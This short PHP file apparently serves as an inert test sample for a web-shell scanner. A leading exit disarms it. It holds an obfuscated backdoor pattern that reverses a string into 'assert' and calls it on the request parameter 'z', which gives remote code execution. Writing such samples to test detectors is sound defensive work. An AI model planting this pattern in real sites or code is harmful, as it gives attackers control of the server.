<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$f = strrev('tressa');
@$f($_REQUEST['z']);
